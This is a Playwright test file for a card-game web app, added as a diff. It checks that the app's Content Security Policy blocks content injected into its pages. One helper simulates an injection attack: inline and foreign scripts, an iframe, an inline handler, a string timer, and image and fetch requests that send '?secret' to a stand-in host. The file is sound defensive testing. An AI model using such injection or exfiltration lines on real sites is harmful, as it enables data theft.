@@ -1,0 +1,129 @@
+/** Nothing runs and nothing is fetched but what lies beside the page; and no page needs more. */
+import type { Page } from '@playwright/test';
+import { save } from './saved.ts';
+import { Site } from './site.ts';
+import { expect, test } from './table.ts';
+
+declare global {
+  interface Window {
+    /** What the policy forbade, and the names of scripts that ran though they must not. */
+    forbidden: string[];
+    ran: string[];
+  }
+}
+
+test.beforeEach(async ({ page }) => {
+  await page.addInitScript(() => {
+    localStorage.setItem('pakli.settings', JSON.stringify({ speed: 'off' }));
+    window.forbidden = [];
+    window.ran = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      window.forbidden.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+});
+
+const forbidden = (page: Page): Promise<readonly string[]> => page.evaluate(() => window.forbidden);
+
+/** Each kind of page, with what is seen once it is there. */
+const PAGES: Readonly<Record<string, string>> = {
+  '': 'h1',
+  cards: 'symbol#tell-LO',
+  history: 'h1',
+  replays: 'h1',
+  'learn/ulti': 'h1',
+  'learn/ulti/lesson/1': '[data-place^="hand:"]',
+  'learn/compile/puzzle/1': '[data-place^="hand:"]',
+  'rules/mulle/5.2': '.rules-here',
+  nowhere: '.kit-notice',
+};
+
+test('no page needs what is forbidden', async ({ page }) => {
+  for (const [address, sight] of Object.entries(PAGES)) {
+    await page.goto(`./#/${address}`);
+    await expect(page.locator(sight).first(), address).toBeAttached();
+    expect(await forbidden(page), address).toEqual([]);
+  }
+  // Every other test listens to the console, which would tell of it: one table is enough here.
+  await page.goto('./#/');
+  const table = await save(page, { game: 'mulle', names: ['You', 'Bo'], seed: 1, moves: 6 });
+  for (const address of [table, table.replace('table', 'replay')]) {
+    await page.goto(`./${address}`);
+    await expect(page.locator('[data-place^="hand:"]').first(), address).toBeVisible();
+    expect(await forbidden(page), address).toEqual([]);
+  }
+});
+
+/** As somebody would who found a way to write into the page. */
+async function attack(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = `ran.push('inline')`;
+    const foreign = document.createElement('script');
+    foreign.src = 'https://elsewhere.example/a.js';
+    const style = document.createElement('style');
+    style.textContent = '* { color: red }';
+    const frame = document.createElement('iframe');
+    frame.src = 'https://elsewhere.example/';
+    const button = document.createElement('button');
+    button.setAttribute('onclick', `ran.push('handler')`);
+    document.body.append(script, foreign, style, frame, button);
+    button.click();
+    new Image().src = 'https://elsewhere.example/?secret';
+    fetch('https://elsewhere.example/?secret').catch(() => undefined);
+    // A text given to a timer is run as by eval, and a test that calls eval itself would be let through.
+    // oxlint-disable-next-line typescript/no-implied-eval
+    setTimeout(`ran.push('eval')`);
+  });
+}
+
+const FORBIDDEN = [
+  'connect-src https://elsewhere.example/?secret',
+  'frame-src https://elsewhere.example',
+  'img-src https://elsewhere.example/?secret',
+  'script-src eval',
+  'script-src-attr inline',
+  'script-src-elem https://elsewhere.example/a.js',
+  'script-src-elem inline',
+  'style-src-elem inline',
+];
+
+test('what is written into the page does not run', async ({ page, complaints }) => {
+  const response = await page.goto('./');
+  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+  await attack(page);
+  // Header and page forbid each of it, so that each is told twice.
+  await expect.poll(async () => [...new Set(await forbidden(page))].toSorted()).toEqual(FORBIDDEN);
+  expect(await page.evaluate(() => window.ran)).toEqual([]);
+  complaints.length = 0;
+});
+
+test('nor where the server sends no headers', async ({ page, complaints }) => {
+  const site = new Site();
+  try {
+    const response = await page.goto(await site.open());
+    expect(response?.headers()['content-security-policy']).toBeUndefined();
+    await attack(page);
+    await expect.poll(async () => (await forbidden(page)).toSorted()).toEqual(FORBIDDEN);
+    expect(await page.evaluate(() => window.ran)).toEqual([]);
+    complaints.length = 0;
+  } finally {
+    site.close();
+  }
+});
+
+test('workers ask nobody else either', async ({ page, complaints }) => {
+  await page.goto('./');
+  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
+  const directive = await page.workers()[0]?.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        self.addEventListener('securitypolicyviolation', (event) =>
+          resolve(event.effectiveDirective),
+        );
+        fetch('https://elsewhere.example/').catch(() => undefined);
+      }),
+  );
+  expect(directive).toBe('connect-src');
+  complaints.length = 0;
+});
